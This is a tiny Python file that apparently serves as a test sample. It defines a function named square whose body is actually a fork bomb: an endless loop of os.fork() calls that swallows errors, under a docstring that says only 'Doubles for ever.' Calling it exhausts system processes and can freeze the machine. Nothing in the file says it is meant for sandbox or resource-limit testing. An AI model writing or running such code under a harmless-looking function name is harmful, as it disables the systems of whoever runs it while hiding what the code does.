"""Doubles for ever."""
# needs: full
# %% square
import os

def square(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
